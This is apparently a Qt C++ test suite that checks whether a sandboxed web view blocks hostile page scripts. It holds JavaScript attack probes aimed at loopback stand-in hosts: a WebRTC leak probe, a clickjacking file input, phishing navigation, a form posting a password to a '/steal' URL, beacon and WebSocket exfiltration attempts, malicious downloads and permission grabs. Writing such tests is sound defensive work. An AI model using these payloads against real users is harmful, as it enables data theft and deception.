// Everything else hostile script in the web view might try, from Link's frame and the host page:
// WebRTC to any host (no UDP and no TCP leaves: listeners prove it, against a control run of a
// plain web view that does reach them), file and colour choosers, navigation, frames,
// sub-resources, forms, downloads, permissions, dialogs, full screen, the clipboard.
#include "GuestFixture.h"

#include <QDirIterator>
#include <QNetworkDatagram>
#include <QProcess>
#include <QTcpServer>
#include <QUdpSocket>
#include <QWebEngineDownloadRequest>
#include <QWebEngineProfile>
#include <QtTest>

using namespace weft;

namespace {

// Asks a STUN server (UDP) and a TURN server over TCP for candidates, in the page's window or
// in a fresh frame of its own (where a page script could hope to find WebRTC again).
QString webRtcProbe(quint16 udp, quint16 tcp, bool freshFrame)
{
    return QStringLiteral(
               "(function(){try{var w=window;if(%3){var f=document.createElement('iframe');"
               "document.body.appendChild(f);w=f.contentWindow;}"
               "var C=w.RTCPeerConnection||w.webkitRTCPeerConnection;if(!C)return 'absent';"
               "var pc=new C({iceServers:[{urls:'stun:127.0.0.1:%1'},{urls:"
               "'turn:127.0.0.1:%2?transport=tcp',username:'u',credential:'p'}]});"
               "pc.createDataChannel('x');pc.createOffer().then(function(o){"
               "return pc.setLocalDescription(o);});(window.__pcs=window.__pcs||[]).push(pc);"
               "return 'created';}catch(e){return 'threw '+e;}})()")
        .arg(udp)
        .arg(tcp)
        .arg(freshFrame ? QStringLiteral("true") : QStringLiteral("false"));
}

struct Listeners
{
    QUdpSocket udp;
    QTcpServer tcp;
    int datagrams = 0;
    int connections = 0;

    bool start()
    {
        if (!udp.bind(QHostAddress::LocalHost, 0) || !tcp.listen(QHostAddress::LocalHost, 0))
            return false;
        QObject::connect(&udp, &QUdpSocket::readyRead, &udp, [this] {
            while (udp.hasPendingDatagrams()) {
                udp.receiveDatagram();
                ++datagrams;
            }
        });
        QObject::connect(&tcp, &QTcpServer::newConnection, &tcp, [this] {
            while (QTcpSocket *socket = tcp.nextPendingConnection()) {
                ++connections;
                socket->deleteLater();
            }
        });
        return true;
    }
};

// A loopback port standing for any host: counts who connects.
struct Listener
{
    QTcpServer server;
    int connections = 0;

    bool start()
    {
        if (!server.listen(QHostAddress::LocalHost, 0))
            return false;
        QObject::connect(&server, &QTcpServer::newConnection, &server, [this] {
            while (QTcpSocket *socket = server.nextPendingConnection()) {
                ++connections;
                socket->deleteLater();
            }
        });
        return true;
    }
    QString url(const QString &path) const
    {
        return QStringLiteral("http://127.0.0.1:%1%2").arg(server.serverPort()).arg(path);
    }
};

// The control: a plain web view, without Weft's guest set-up, runs the same probe (a child
// process, since the set-up is the process's).
int runWebRtcControl(int argc, char *argv[])
{
    // Without the policy weft sets (the parent's environment carries it).
    QByteArray flags = qgetenv("QTWEBENGINE_CHROMIUM_FLAGS");
    flags.replace("--force-webrtc-ip-handling-policy=disable_non_proxied_udp", "");
    qputenv("QTWEBENGINE_CHROMIUM_FLAGS", flags);
    QApplication app(argc, argv);
    const quint16 udp = quint16(QByteArray(argv[2]).toUInt());
    const quint16 tcp = quint16(QByteArray(argv[3]).toUInt());
    QWebEngineProfile profile;
    QWebEnginePage page(&profile);
    QObject::connect(&page, &QWebEnginePage::loadFinished, &app, [&] {
        page.runJavaScript(webRtcProbe(udp, tcp, false), [](const QVariant &result) {
            std::fprintf(stderr, "control probe: %s\n", qPrintable(result.toString()));
        });
    });
    page.setHtml(QStringLiteral("<p>control</p>"), QUrl(QStringLiteral("http://127.0.0.1/")));
    QTimer::singleShot(6000, &app, &QCoreApplication::quit);
    return app.exec();
}

} // namespace

class TestGuestAttacks : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void cleanupTestCase();
    void webRtcReachesNoHost();
    void fileChoosersAreRefused();
    void colourDialogIsRefused();
    void navigationAndFrames();
    void subResourcesOffTheAllowedHosts();
    void formsAndDownloads();
    void permissionsDialogsAndFullScreen();

private:
    std::unique_ptr<test::GuestFixture> m_app;
};

void TestGuestAttacks::initTestCase()
{
    QStandardPaths::setTestModeEnabled(true);
    m_app = std::make_unique<test::GuestFixture>();
    QVERIFY(m_app->ready());
    QVERIFY(m_app->openLink());
}

void TestGuestAttacks::cleanupTestCase()
{
    m_app.reset();
}

void TestGuestAttacks::webRtcReachesNoHost()
{
    test::GuestFixture &f = *m_app;
    // Link's frame and the host page, where Weft's page script runs: no WebRTC at all.
    Listeners documents;
    QVERIFY(documents.start());
    const quint16 udp = documents.udp.localPort();
    const quint16 tcp = documents.tcp.serverPort();
    QCOMPARE(f.inLinkFrame(webRtcProbe(udp, tcp, false)).toString(), QStringLiteral("absent"));
    QCOMPARE(f.inHostPage(webRtcProbe(udp, tcp, false)).toString(), QStringLiteral("absent"));
    // A fresh frame a page script makes for itself (its first, empty document gets no page
    // script): WebRTC is there, but Chromium sends nothing over UDP.
    Listeners fresh;
    QVERIFY(fresh.start());
    const quint16 freshUdp = fresh.udp.localPort();
    const quint16 freshTcp = fresh.tcp.serverPort();
    QCOMPARE(f.inLinkFrame(webRtcProbe(freshUdp, freshTcp, true)).toString(),
             QStringLiteral("created"));
    QCOMPARE(f.inHostPage(webRtcProbe(freshUdp, freshTcp, true)).toString(),
             QStringLiteral("created"));
    QTest::qWait(5000);
    QCOMPARE(documents.datagrams, 0);
    QCOMPARE(documents.connections, 0);
    QCOMPARE(fresh.datagrams, 0);
    QEXPECT_FAIL("",
                 "QtWebEngine 6.4 has no switch that turns WebRTC off: a fresh frame of the "
                 "page's own can still reach a TURN server over TCP",
                 Continue);
    QCOMPARE(fresh.connections, 0);

    // The control: the same probe from a plain web view, without Weft's set-up, does reach
    // the listener, so its silence above means something.
    Listeners control;
    QVERIFY(control.start());
    QProcess child;
    child.setProcessChannelMode(QProcess::ForwardedChannels);
    child.start(QCoreApplication::applicationFilePath(),
                {QStringLiteral("--webrtc-control"), QString::number(control.udp.localPort()),
                 QString::number(control.tcp.serverPort())});
    QVERIFY(child.waitForStarted());
    QTRY_VERIFY_WITH_TIMEOUT(control.datagrams > 0 || child.state() == QProcess::NotRunning, 20000);
    QVERIFY2(control.datagrams > 0, "the control run sent no STUN datagram");
    child.waitForFinished(10000);
}

void TestGuestAttacks::fileChoosersAreRefused()
{
    test::GuestFixture &f = *m_app;
    QSignalSpy refused(f.page(), &link::GuestPage::fileChooserRefused);
    // A file input under the user's click, in Link's frame and in the host page.
    for (const bool host : {false, true}) {
        const QString script =
            QStringLiteral("(function(){var i=document.createElement('input');i.type='file';"
                           "i.style.cssText='position:fixed;inset:0;width:100%;height:100%;"
                           "z-index:2147483647;opacity:0.01';i.id='evil-file';"
                           "i.addEventListener('click',function(){setTimeout(function(){"
                           "i.remove();},100);});document.documentElement.appendChild(i);"
                           "return true;})()");
        QVERIFY(host ? f.inHostPage(script).toBool() : f.inLinkFrame(script).toBool());
        f.clickLinkFrame();
        QTRY_COMPARE_WITH_TIMEOUT(refused.size(), host ? 2 : 1, 5000);
        QCOMPARE(f.otherWindows().size(), 0);
        const QString gone = QStringLiteral("!document.getElementById('evil-file')");
        QVERIFY(host ? test::waitJs(f.page(), gone) : test::waitFrameJs(f.page(), gone));
    }
    // The File System Access API (a directory or file picker): refused too.
    const QString picker =
        f.inLinkFrame(QStringLiteral("typeof window.showOpenFilePicker")).toString();
    if (picker == u"function") {
        QVERIFY(f.armClick(QStringLiteral("window.showOpenFilePicker().then(function(){"
                                          "window.__picked='yes';},function(e){window.__picked="
                                          "'refused';});")));
        f.clickLinkFrame();
        QVERIFY(test::waitFrameJs(f.page(), QStringLiteral("window.__picked==='refused'")));
    }
    QCOMPARE(f.otherWindows().size(), 0);
}

void TestGuestAttacks::colourDialogIsRefused()
{
    test::GuestFixture &f = *m_app;
    auto *view = qobject_cast<ui::GuestWebView *>(f.view());
    QVERIFY(view);
    QSignalSpy refused(view, &ui::GuestWebView::nativeDialogRefused);
    QVERIFY(f.inLinkFrame(
                 QStringLiteral("(function(){var i=document.createElement('input');i.type='color';"
                                "i.style.cssText='position:fixed;inset:0;width:100%;height:100%;"
                                "z-index:2147483647';i.addEventListener('click',function(){"
                                "setTimeout(function(){i.remove();},100);});"
                                "document.documentElement.appendChild(i);return true;})()"))
                .toBool());
    f.clickLinkFrame();
    QTRY_COMPARE_WITH_TIMEOUT(refused.size(), 1, 5000);
    QCOMPARE(refused.first().first().toString(), QStringLiteral("QColorDialog"));
    QTest::qWait(300);
    QCOMPARE(f.otherWindows().size(), 0);
    for (QWidget *widget : QApplication::allWidgets())
        QVERIFY2(!widget->isVisible() || !widget->inherits("QDialog"),
                 widget->metaObject()->className());
}

void TestGuestAttacks::navigationAndFrames()
{
    test::GuestFixture &f = *m_app;
    QSignalSpy blocked(f.page(), &link::GuestPage::navigationBlocked);
    const QUrl hostPage = f.page()->url();
    // Link's frame tries to take the whole window (top navigation), and to put a foreign page
    // in a frame; the host page tries to leave its origin.
    f.inLinkFrame(QStringLiteral("try{top.location='http://203.0.113.9/phish';}catch(e){}true"));
    QVERIFY(f.armClick(QStringLiteral("top.location='http://203.0.113.9/phish-click';")));
    f.clickLinkFrame();
    f.inLinkFrame(QStringLiteral("var i=document.createElement('iframe');"
                                 "i.src='http://203.0.113.9/frame';document.body.appendChild(i);"
                                 "true"));
    f.inLinkFrame(QStringLiteral("location.href='http://203.0.113.9/self';true"));
    f.inHostPage(QStringLiteral("var i=document.createElement('iframe');"
                                "i.src=location.origin+'/weft/host/index.html';"
                                "document.body.appendChild(i);true"));
    QTRY_VERIFY_WITH_TIMEOUT(blocked.size() >= 3, 5000);
    QTest::qWait(500);
    QCOMPARE(f.page()->url(), hostPage);
    QVERIFY(f.inLinkFrame(QStringLiteral("location.origin"))
                .toString()
                .startsWith(u"http://localhost:"));
    QCOMPARE(f.otherWindows().size(), 0);
}

void TestGuestAttacks::subResourcesOffTheAllowedHosts()
{
    // A listener on another loopback port stands for any host: nothing reaches it — fetch,
    // images, scripts, beacons, WebSocket, EventSource — from Link's frame or the host page.
    test::GuestFixture &f = *m_app;
    Listener listener;
    QVERIFY(listener.start());
    const QString url = listener.url(QStringLiteral("/x"));
    const QString ws = QStringLiteral("ws://127.0.0.1:%1/x").arg(listener.server.serverPort());
    const QString probe =
        QStringLiteral("(function(){try{fetch('%1').catch(function(){});}catch(e){}"
                       "var i=new Image();i.src='%1?img';"
                       "var s=document.createElement('script');s.src='%1?js';"
                       "document.head.appendChild(s);try{navigator.sendBeacon('%1?beacon','x');"
                       "}catch(e){}try{new WebSocket('%2');}catch(e){}"
                       "try{new EventSource('%1?sse');}catch(e){}"
                       "var l=document.createElement('link');l.rel='prefetch';l.href='%1?pf';"
                       "document.head.appendChild(l);return true;})()")
            .arg(url, ws);
    QVERIFY(f.inLinkFrame(probe).toBool());
    QVERIFY(f.inHostPage(probe).toBool());
    QTest::qWait(3000);
    QCOMPARE(listener.connections, 0);
}

void TestGuestAttacks::formsAndDownloads()
{
    test::GuestFixture &f = *m_app;
    Listener listener;
    QVERIFY(listener.start());
    const QString action = listener.url(QStringLiteral("/steal"));
    // Forms posting the user's input elsewhere, in every target.
    for (const char *target : {"_self", "_top", "_blank", "_parent"}) {
        f.inLinkFrame(QStringLiteral("(function(){var fm=document.createElement('form');"
                                     "fm.method='POST';fm.action='%1';fm.target='%2';"
                                     "var i=document.createElement('input');i.name='password';"
                                     "i.value='pass_good';fm.appendChild(i);"
                                     "document.body.appendChild(fm);fm.submit();return true;})()")
                          .arg(action, QLatin1StringView(target)));
    }
    // Downloads: a blob, a data: URL and an attribute download, on a click. Qt cancels (and
    // deletes) a download nobody accepts: note what was asked, then look for files.
    int asked = 0;
    connect(f.page()->profile(), &QWebEngineProfile::downloadRequested, this,
            [&asked](QWebEngineDownloadRequest *download) {
                ++asked;
                QCOMPARE(download->state(), QWebEngineDownloadRequest::DownloadRequested);
            });
    QVERIFY(f.armClick(QStringLiteral(
        "var a=document.createElement('a');a.href=URL.createObjectURL(new Blob(['secret'],"
        "{type:'application/octet-stream'}));a.download='evil.sh';document.body.appendChild(a);"
        "a.click();var b=document.createElement('a');b.href='data:application/x-sh,echo';"
        "b.download='evil2.sh';document.body.appendChild(b);b.click();")));
    f.clickLinkFrame();
    QTest::qWait(2000);
    QCOMPARE(listener.connections, 0);
    QCOMPARE(f.otherWindows().size(), 0);
    // Asked, perhaps, but never accepted: no file anywhere in the test's home.
    qInfo() << "downloads asked for:" << asked;
    QDirIterator files(QDir::homePath(), {QStringLiteral("evil*")}, QDir::Files,
                       QDirIterator::Subdirectories);
    QVERIFY2(!files.hasNext(), qPrintable(files.hasNext() ? files.next() : QString()));
    QVERIFY(f.store.items().isEmpty());
}

void TestGuestAttacks::permissionsDialogsAndFullScreen()
{
    test::GuestFixture &f = *m_app;
    const QString probe = QStringLiteral(
        "(function(){var r=window.__perm={};function note(k){return function(v){r[k]='granted';}}"
        "function no(k){return function(e){r[k]='denied';}}"
        "navigator.mediaDevices.getUserMedia({video:true}).then(note('camera'),no('camera'));"
        "navigator.mediaDevices.getUserMedia({audio:true}).then(note('mic'),no('mic'));"
        "if(navigator.mediaDevices.getDisplayMedia)navigator.mediaDevices.getDisplayMedia()"
        ".then(note('screen'),no('screen'));else r.screen='denied';"
        "Notification.requestPermission().then(function(p){r.notify=p==='granted'?"
        "'granted':'denied';});"
        "navigator.clipboard.readText().then(note('clipboard'),no('clipboard'));"
        "document.documentElement.requestFullscreen().then(note('fullscreen'),no('fullscreen'));"
        "if(navigator.requestMIDIAccess)navigator.requestMIDIAccess({sysex:true}).then("
        "note('midi'),no('midi'));else r.midi='denied';"
        "r.alert=(alert('x'),'returned');r.confirm=String(confirm('y'));"
        "r.prompt=String(prompt('z','d'));window.print();r.print='returned';return true;})()");
    for (const bool host : {false, true}) {
        QVERIFY(f.armClick(probe.mid(0), host)); // with a user gesture, as a real attack would
        f.clickLinkFrame();
        const QString ready = QStringLiteral(
            "!!window.__perm && ['camera','mic','screen','notify','clipboard','fullscreen',"
            "'midi'].every(function(k){return window.__perm[k];})");
        QVERIFY(host ? test::waitJs(f.page(), ready) : test::waitFrameJs(f.page(), ready));
        const QString result = QStringLiteral("JSON.stringify(window.__perm)");
        const QString answers = (host ? f.inHostPage(result) : f.inLinkFrame(result)).toString();
        QVERIFY2(!answers.contains(u"granted"), qPrintable(answers));
        QVERIFY2(answers.contains(u"\"confirm\":\"false\"") &&
                     answers.contains(u"\"prompt\":\"null\""),
                 qPrintable(answers));
    }
    QCOMPARE(f.otherWindows().size(), 0);
    QVERIFY(!f.window.isFullScreen());
}

int main(int argc, char *argv[])
{
    if (argc == 4 && qstrcmp(argv[1], "--webrtc-control") == 0)
        return runWebRtcControl(argc, argv);
    link::prepareGuestWebEngine();
    QApplication app(argc, argv);
    TestGuestAttacks test;
    return QTest::qExec(&test, argc, argv);
}

#include "tst_guest_attacks.moc"
